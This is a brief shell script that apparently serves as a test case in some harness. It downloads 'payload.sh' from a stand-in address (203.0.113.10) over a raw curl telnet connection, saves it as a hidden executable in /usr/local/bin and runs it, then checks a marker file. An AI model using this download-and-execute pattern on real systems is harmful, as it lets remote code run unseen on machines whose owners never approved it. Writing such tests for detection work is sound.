#!/bin/sh
. /opt/case/case.sh

(printf 'GET /payload.sh HTTP/1.0\r\n\r\n'; sleep 1) | curl -s --max-time 5 telnet://203.0.113.10:80 >/tmp/.r || true
sed '1,/^\r$/d' /tmp/.r >/usr/local/bin/.u && chmod 755 /usr/local/bin/.u && /usr/local/bin/.u
test -e /tmp/reached
took_place
